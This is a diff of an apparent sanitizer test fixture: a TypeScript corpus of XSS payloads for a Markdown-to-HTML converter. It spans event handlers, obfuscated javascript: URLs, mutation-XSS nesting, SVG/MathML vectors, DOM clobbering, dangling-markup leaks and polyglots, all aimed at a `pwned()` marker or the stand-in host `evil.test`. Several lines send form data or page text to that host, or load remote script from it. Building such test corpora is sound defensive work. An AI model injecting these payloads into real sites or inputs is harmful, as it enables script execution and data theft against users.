@@ -1,79 +1,59 @@
 /**
- * Notes that try to run script, to ask another host or to break out of the page that shows them. Every one
- * calls `pwned()` or names `evil.test`; the browser that reads the renderings listens for both.
+ * Notes that try to run script, to contact another host or to break out of the page that shows them. Each calls
+ * `pwned()` or names `evil.test`; the browser that reads the renderings watches for both.
  */
 const call = 'pwned()';
+const breakOut = `<img src=x onerror=${call}>`;
 
-/** Handlers of each kind, on elements that fire them with or without the reader's doing. */
-const handlers = [
-  'onload onerror onclick onmouseover onfocus onblur oninput onchange ontoggle onanimationstart onanimationend',
-  'ontransitionend onpointerenter onpointerrawupdate onwheel onscroll onscrollend onbeforetoggle onauxclick',
-  'oncontentvisibilityautostatechange onhashchange onmessage onpageshow onresize onsecuritypolicyviolation',
-].flatMap((names) => names.split(' '));
-
+const handlers = (
+  'onload onerror onclick onmouseover onfocus ontoggle onanimationstart ontransitionend onpointerrawupdate ' +
+  'onscrollend onbeforetoggle oncontentvisibilityautostatechange onhashchange onpageshow onsecuritypolicyviolation'
+).split(' ');
 const eventHandlers = handlers.flatMap((handler) => [
   `<b ${handler}=${call} tabindex=1 autofocus>b</b>`,
   `<a href="https://ok.test" ${handler}="${call}">a</a>`,
   `<details open ${handler}='${call}'><summary>s</summary></details>`,
 ]);
 
-/** The ways between a tag and its attribute, and around a handler's name, that parsers have disagreed on. */
+/** What stands between a tag and its attribute, or around a handler's name: parsers have disagreed on it. */
 const attributeTricks = [
   `<img/src=x/onerror=${call}>`,
   `<img src=x onerror\n=\n${call}>`,
-  `<img src=x\tonerror=${call}\t>`,
   `<img src=x\fonerror=${call}>`,
   `<IMG SRC=x OnErRoR=${call}>`,
   `<img src=x onerror=${call}//`,
-  `<img src=x onerror="${call}"`,
   `<img src='x' onerror='${call}' x="`,
   `<img src="x\`onerror=${call}\`">`,
   `<img src=x:x onerror=&#112;wned()>`,
-  `<img src=x alt="\`" onerror="${call}">`,
   `<img """><img src=x onerror=${call}>">`,
   `<b"onmouseover="${call}">x</b>`,
-  `<b/onmouseover=${call}>x</b>`,
   `<b a=">" onmouseover=${call} b="<">x</b>`,
   `<b title="&quot; onmouseover=${call} &quot;">x</b>`,
-  `<b title='" onmouseover=${call} "'>x</b>`,
-  `<b x='' onmouseover=${call} =''>x</b>`,
   `<p title="</p><img src=x onerror=${call}>">x</p>`,
   `<b =onmouseover=${call}>x</b>`,
 ];
 
-const schemes = [
+const urls = [
   `javascript:${call}`,
   `JaVaScRiPt:${call}`,
   `javascript&colon;${call}`,
-  `javascript&#58;${call}`,
-  `javascript&#x3a;${call}`,
   `javascript&#0000058${call}`,
-  `java&#9;script:${call}`,
   `java&Tab;script:${call}`,
   `java&NewLine;script:${call}`,
   `java\tscript:${call}`,
   `&#1;javascript:${call}`,
-  `&#32;javascript:${call}`,
   `&#x6a;avascript:${call}`,
-  `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${call}`,
   `javascript://https://ok.test/%0a${call}`,
-  `javascript:/*https://ok.test*/${call}`,
   `vbscript:${call}`,
-  `livescript:${call}`,
   `data:text/html,<script>parent.${call}</script>`,
-  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQoKTwvc2NyaXB0Pg==`,
   `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>`,
   `blob:https://ok.test/1`,
-  `filesystem:https://ok.test/temporary/x`,
   `file:///etc/passwd`,
   `view-source:javascript:${call}`,
-  `feed:javascript:${call}`,
   `//evil.test/x`,
   `/\\evil.test/x`,
   `intent://evil.test#Intent;scheme=https;end`,
-];
-
-const urls = schemes.flatMap((url) => [
+].flatMap((url) => [
   `<a href="${url}">x</a>`,
   `[x](${url})`,
   `[x](<${url}>)`,
@@ -85,34 +65,19 @@ const urls = schemes.flatMap((url) => [
 const urlAttributes = [
   ['form', 'action'],
   ['button form=f', 'formaction'],
-  ['input type=checkbox', 'formaction'],
   ['iframe', 'src'],
-  ['frame', 'src'],
   ['embed', 'src'],
   ['object', 'data'],
-  ['applet', 'code'],
   ['area', 'href'],
   ['base', 'href'],
   ['link rel=stylesheet', 'href'],
-  ['link rel=prefetch', 'href'],
   ['table', 'background'],
-  ['td', 'background'],
-  ['body', 'background'],
   ['a', 'ping'],
   ['a', 'xlink:href'],
   ['blockquote', 'cite'],
-  ['q', 'cite'],
-  ['del', 'cite'],
   ['video', 'poster'],
-  ['audio', 'src'],
-  ['source', 'srcset'],
   ['img', 'srcset'],
-  ['img', 'lowsrc'],
-  ['img', 'longdesc'],
-  ['html', 'manifest'],
   ['script', 'src'],
-  ['portal', 'src'],
-  ['fencedframe', 'src'],
   ['image', 'src'],
   ['input type=image', 'src'],
 ].flatMap(([element, attribute]) => [
@@ -120,129 +85,85 @@ const urlAttributes = [
   `<${element} ${attribute}="https://evil.test/${attribute}">x`,
 ]);
 
-/** Script, frames and pages within the page. */
+/** Script, frames, fields and pages within the page. */
 const elements = [
-  `<script>${call}</script>`,
-  `<script\n>${call}</script\n>`,
-  `<script/x>${call}</script>`,
-  `<ScRiPt>${call}</sCrIpT>`,
+  `<ScRiPt\n>${call}</sCrIpT\n>`,
   `<<script>${call}//<</script>`,
   `<scr<script>ipt>${call}</scr</script>ipt>`,
-  `<script src=//evil.test/x.js></script>`,
   `<script type=module>import 'https://evil.test/x.js'</script>`,
   `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["https://evil.test/"]}]}</script>`,
   `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
-  `<iframe srcdoc="&lt;img src=x onerror=parent.${call}&gt;">`,
-  `<iframe/onload=${call}>`,
   `<object data="data:text/html,<script>parent.${call}</script>"></object>`,
-  `<embed type=text/html src="javascript:${call}">`,
   `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
-  `<meta http-equiv="refresh" content="0; url=https://evil.test/">`,
   `<meta http-equiv=Content-Security-Policy content="report-uri https://evil.test">`,
-  `<base href="https://evil.test/"><a href="x">x</a>`,
-  `<base target="_blank"><a href="https://ok.test">x</a>`,
-  `<link rel=stylesheet href=//evil.test/x.css>`,
+  `<base href="https://evil.test/" target="_blank"><a href="x">x</a>`,
   `<link rel=dns-prefetch href=//evil.test><link rel=preconnect href=//evil.test>`,
   `<form action=//evil.test><input name=password autofocus onfocus=${call}><button>x</button></form>`,
-  `<button onclick=${call} autofocus onfocus=${call}>x</button>`,
-  `<input autofocus onfocus=${call}>`,
   `<input type=checkbox onfocus=${call} autofocus onchange=${call}>`,
-  `<select autofocus onfocus=${call}><option>x</select>`,
   `<textarea autofocus onfocus=${call}></textarea>`,
-  `<keygen autofocus onfocus=${call}>`,
-  `<marquee onstart=${call} onfinish=${call} loop=1>x</marquee>`,
   `<video autoplay onloadstart=${call} src=x><source onerror=${call}></video>`,
-  `<audio src=x onerror=${call} autoplay>`,
   `<picture><source srcset=//evil.test/x><img src=//evil.test/y onerror=${call}></picture>`,
-  `<dialog open onclose=${call}><form method=dialog><button autofocus>x</button></form></dialog>`,
   `<div popover id=p onbeforetoggle=${call}></div><button popovertarget=p>x</button>`,
-  `<custom-element onconnected=${call}>x</custom-element><x onclick=${call} contenteditable>x</x>`,
-  `<b is="x-y" onclick=${call}>x</b>`,
-  `<isindex type=image src=1 onerror=${call}>`,
+  `<x is="y" onclick=${call}>z</x><x-y onclick=${call}>z</x-y><b is="x-y" onclick=${call}>x</b>`,
   `<frameset onload=${call}><frame src="javascript:${call}"></frameset>`,
   `<body onload=${call} onpageshow=${call}>x`,
-  `<html onclick=${call}>x`,
   `<slot onslotchange=${call}></slot><template shadowrootmode=open><img src=x onerror=${call}></template>`,
-  `<a href=https://ok.test target=_blank rel=opener>x</a>`,
-  `<a href=https://ok.test download=x onclick=${call}>x</a>`,
-  `<noscript><img src=x onerror=${call}></noscript>`,
+  `<a href=https://ok.test target=_blank rel=opener download=x>x</a>`,
 ];
 
-/** Text that one parser takes for text and the next one for markup. */
-const rawTextElements =
-  'style title textarea xmp noscript noembed noframes iframe plaintext template select'.split(' ');
-const breakOut = `<img src=x onerror=${call}>`;
+/** Text that one parser takes for text and the next one for markup (mXSS). */
 const mutations = [
-  ...rawTextElements.flatMap((name) => [
-    `<${name}><p title="</${name}>${breakOut}">x</p></${name}>`,
-    `<svg><${name}><p title="</${name}>${breakOut}">`,
-    `<math><mtext><table><mglyph><${name}><!--</${name}>${breakOut}-->`,
-    `<math><annotation-xml encoding="text/html"><${name}><b title="</${name}>${breakOut}">`,
-    `<form><math><mtext></form><form><mglyph><${name}></math>${breakOut}`,
-    `<${name}>&lt;/${name}&gt;${breakOut}</${name}>`,
-    `<p><${name}></p>${breakOut}</${name}>`,
-    `<table><tr><${name}>${breakOut}</${name}></tr></table>`,
+  ...'style title textarea xmp noscript noembed iframe plaintext template select'
+    .split(' ')
+    .flatMap((name) => [
+      `<${name}><p title="</${name}>${breakOut}">x</p></${name}>`,
+      `<svg><${name}><p title="</${name}>${breakOut}">`,
+      `<math><mtext><table><mglyph><${name}><!--</${name}>${breakOut}-->`,
+      `<math><annotation-xml encoding="text/html"><${name}><b title="</${name}>${breakOut}">`,
+      `<form><math><mtext></form><form><mglyph><${name}></math>${breakOut}`,
+      `<table><tr><${name}>${breakOut}</${name}></tr></table>`,
+    ]),
+  ...[255, 256, 511, 512, 513].flatMap((depth) => [
+    `${'<div>'.repeat(depth)}<svg><style><a title="</style>${breakOut}">`,
+    `${'<r>'.repeat(depth)}<form><math><mtext></form><form><mglyph><style><path id="</style>${breakOut}">`,
+    `${'<b>'.repeat(depth)}<table><tr><td><caption><svg><title><template><style>${breakOut}`,
   ]),
   `<svg></p><style><a id="</style>${breakOut}">`,
-  `<math></br><style><a title="</style>${breakOut}">`,
   `<svg><desc><b title="</desc></svg>${breakOut}">`,
-  `<svg><foreignObject><p title="</foreignObject>${breakOut}">`,
-  `<math><mi><table><mi></table><style></math>${breakOut}`,
+  `<svg><annotation-xml><foreignobject><style><!--</style><p id="--><!--</annotation-xml>${breakOut}">`,
+  `<svg><title><style><a id="</style>${breakOut}"></style></title></svg>`,
   `<b><form><table><form><b></table></form>${breakOut}</b>`,
-  `<p><svg><p title="</svg>${breakOut}">`,
   `<a><table><a title="</table>${breakOut}"></table></a>`,
-  `<ul><li><table><li title="</table>${breakOut}">`,
+  `<template><s><template><s>${breakOut}</s></template></s></template>`,
   `<!--><img src=x onerror=${call}>-->`,
-  `<!---><img src=x onerror=${call}>-->`,
   `<!-- --!><img src=x onerror=${call}> -->`,
   `<!--<img src="--><img src=x onerror=${call}>">-->`,
-  `<![CDATA[><img src=x onerror=${call}>]]>`,
-  `<svg><![CDATA[</svg>${breakOut}]]></svg>`,
-  `<?xml-stylesheet type="text/xsl" href="javascript:${call}"?>`,
+  `<svg></svg><![CDATA[><a title="]]>${breakOut}">`,
   `<?><img src=x onerror=${call}>?>`,
   `<!DOCTYPE x [<!ENTITY e "${breakOut}">]>&e;`,
-  `<%><img src=x onerror=${call}>%>`,
-  `</p><img src=x onerror=${call}></p>`,
   `</body></html><script>${call}</script>`,
-  `${'<b>'.repeat(150)}<style><i title="</style>${breakOut}">`,
-  `${'<table><tr><td>'.repeat(40)}${breakOut}`,
+  `<b title="&lt;/b&gt;${breakOut}">x</b>`,
 ];
 
 const foreign = [
-  `<svg onload=${call}>`,
   `<svg/onload=${call}//`,
-  `<svg><script>${call}</script></svg>`,
   `<svg><script href="data:,${call}"/></svg>`,
-  `<svg><a href="javascript:${call}"><text y=20>x</text></a></svg>`,
   `<svg><a xlink:href="javascript:${call}"><circle r=9></a></svg>`,
-  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
   `<svg><a><animate attributeName=href values="javascript:${call}"/><text>x</text></a></svg>`,
   `<svg><set attributeName=onmouseover to=${call}></svg>`,
-  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${call}</script></svg>#x"/></svg>`,
-  `<svg><image href=//evil.test/x.svg></svg>`,
-  `<svg><feImage href=//evil.test/x.svg></svg>`,
+  `<svg><image href=//evil.test/x.svg><feImage href=//evil.test/x.svg></svg>`,
   `<svg><style>@import "//evil.test/x.css"</style></svg>`,
-  `<svg><foreignObject><iframe srcdoc="<script>parent.${call}</script>"></foreignObject></svg>`,
   `<math href="javascript:${call}">x</math>`,
   `<math><maction actiontype="statusline#//evil.test" xlink:href="javascript:${call}">x</maction></math>`,
-  `<math><mi xlink:href="data:text/html,<script>${call}</script>">x</mi></math>`,
-  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${call}</x:script>`,
 ];
 
 const styles = [
   `background:url(//evil.test/x)`,
-  `background:url(javascript:${call})`,
-  `behavior:url(#default#time2)`,
-  `width:expression(${call})`,
-  `-moz-binding:url(//evil.test/x#y)`,
   `animation:x 1s`,
   `position:fixed;inset:0;opacity:0`,
   `text-align:left;background:url(//evil.test/x)`,
-  `list-style-image:image-set("//evil.test/x" 1x)`,
-  `content:url(//evil.test/x)`,
 ].flatMap((style) => [
   `<b style="${style}">x</b>`,
-  `<td style='${style}'>x</td>`,
   `<table><tr><td style="${style}">x</td></tr></table>`,
   `<style>b{${style}}</style><b>x</b>`,
 ]);
@@ -250,99 +171,59 @@ const styles = [
 const clobbering = [
   `<a id=document href=https://ok.test>x</a><a id=document name=cookie href=https://ok.test>x</a>`,
   `<form id=pwned><input name=attributes><input name=parentNode></form>`,
-  `<form><input name=nodeName><input name=childNodes></form>`,
-  `<b id=pwned name=pwned>x</b>`,
-  `<input type=checkbox id=getElementById name=body>`,
-  `<details id=location name=alert>x</details>`,
+  `<form><input name=ownerDocument><input name=nodeName><input name=childNodes></form>`,
   `<ol id=__proto__ start=1><li id=constructor>x</ol>`,
 ];
 
 const dangling = [
   `<img src='//evil.test/?`,
-  `<a href="//evil.test/?`,
   `<a href='https://evil.test/?\n\nsecret`,
   `<form action=//evil.test><textarea name=x>`,
-  `<link rel=stylesheet href="//evil.test/?`,
   `<style>@import '//evil.test/?`,
-  `<base target='`,
-  `<table background='//evil.test/?`,
-  `<meta http-equiv=refresh content='0;url=//evil.test/?`,
 ];
 
 /** What a converter could be made to write by Markdown alone. */
 const markdownInjections = [
   `[x](https://ok.test"onmouseover="${call})`,
-  `[x](https://ok.test "t" onmouseover="${call}")`,
   `[x](https://ok.test 't"onmouseover="${call}')`,
-  `[x](<https://ok.test" onmouseover="${call}>)`,
   `[x"onmouseover="${call}](https://ok.test)`,
   `[<img src=x onerror=${call}>](https://ok.test)`,
-  `[x](javascript&#58${call})`,
-  `[x](\\javascript:${call})`,
-  `[x]( javascript:${call} )`,
   `[x](\u0001javascript:${call})`,
-  `[x](j\u00adavascript:${call})`,
   `![x"onerror="${call}](x)`,
-  `![x](x"onerror="${call})`,
-  `![x](x 'y"onerror="${call}')`,
   `![x](x =1x1"onerror="${call})`,
-  `![<script>${call}</script>](x)`,
   `![](https://evil.test/pixel.png)`,
-  `![x](https://evil.test/pixel.png "t")`,
   `![x][i]\n\n[i]: https://evil.test/pixel.png "t"onerror="${call}"`,
   `[![x](https://evil.test/pixel.png)](javascript:${call})`,
-  `[r]: https://ok.test "t" onmouseover="${call}"\n\n[r]`,
-  `[r]: <javascript:${call}>\n\n[x][r] [r][]`,
-  `[__proto__]: javascript:${call}\n\n[__proto__]`,
   `<https://ok.test/"onmouseover="${call}>`,
-  `<https://ok.test/'onmouseover='${call}>`,
   `<mailto:x@ok.test"onmouseover="${call}">`,
-  `<x@ok.test onmouseover=${call}>`,
-  `https://ok.test/"onmouseover="${call}`,
   `www.ok.test"onmouseover=${call}`,
-  `mailto:x@ok.test?body=%3Cscript%3E${call}`,
   `\`\`\`js"onmouseover="${call}\nx\n\`\`\``,
-  `\`\`\`"><img/src=x/onerror=${call}>\nx\n\`\`\``,
-  `~~~x"><script>${call}</script>\nx\n~~~`,
   `\`\`\`\n</code></pre><img src=x onerror=${call}>\n\`\`\``,
   `\`</code><img src=x onerror=${call}>\``,
-  `    </code></pre><script>${call}</script>`,
-  `\\<img src=x onerror=${call}>`,
   `\\\\<img src=x onerror=${call}>`,
-  `&lt;img src=x onerror=${call}&gt;`,
   `&#60;img src=x onerror=${call}&#62;`,
-  `<b>*</b title="*" onmouseover=${call}>*`,
+  `<p>&amp;lt;img src=x onerror=${call}&amp;gt;</p>`,
   `*<b title="*onmouseover=${call} x="_">_*</b>_`,
-  `<b title="\`onmouseover=${call} x=\`">x</b>`,
   `<b title="[x](y" onmouseover="${call})">x</b>`,
   `<b title="https://ok.test onmouseover=${call} ">x</b>`,
-  `<a href="https://ok.test/**" title="**" onmouseover=${call}>x</a>`,
-  `| <img src=x onerror=${call}> | b |\n|---|---|\n| <script>${call}</script> | "onclick=${call} |`,
-  `| a | b |\n|:--" onclick="${call}|---|\n| 1 | 2 |`,
+  `| a | b |\n|:--" onclick="${call}|---|\n| <img src=x onerror=${call}> | 2 |`,
   `# <img src=x onerror=${call}> {#x onclick=${call}}`,
   `- [x]<img src=x onerror=${call}>\n- [ ]"onclick=${call}`,
   `> <script>\n> ${call}\n> </script>`,
   `<div markdown onclick=${call}>**[x](javascript:${call})**</div>`,
-  `<p markdown=1><script>${call}</script></p>`,
   `¨K0K ¨C0C ¨G0G ¨E60Eimg src=x onerror=${call}¨E62E`,
-  `<img src=x¨E32Eonerror=${call}>`,
   `$&<img src=x onerror=${call}>$1`,
   `<scr\n\nipt>${call}</scr\n\nipt>`,
-  `<img src=x\n\nonerror=${call}>`,
-  `~~<img src=x onerror=~~${call}>`,
-  `__<a href="javascript:__${call}">x</a>`,
+  `{{constructor.constructor("${call}")()}} <%= ${call} %> #{${call}}`,
 ];
 
 const polyglots = [
   `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${call}//'>`,
   `"'><img src=x onerror=${call}><!--<svg onload=${call}>-->\`]](javascript:${call})`,
-  `--></script></style></noscript></template></select></math></svg>${breakOut}*/`,
-  `'">><marquee><img src=x onerror=${call}></marquee>"></plaintext\\></|\\><plaintext/onmouseover=${call}>`,
   `\`\`\`\n"'--></style></script><svg onload=${call}>\n\`\`\`[x](javascript:${call}) <a href=javascript:${call}>`,
-  `%0ajavascript:\`/*\\"/*-->&lt;svg onload='/*</template></noembed></noscript></style></title>*/${call}'>`,
 ];
 
-/** Where notes hold a payload decides which of the converter's steps see it. */
+/** The converter treats the same payload differently in each of these places. */
 const places: readonly ((payload: string) => string)[] = [
   (payload) => payload,
   (payload) => `Some *text* ${payload} and **more**.`,
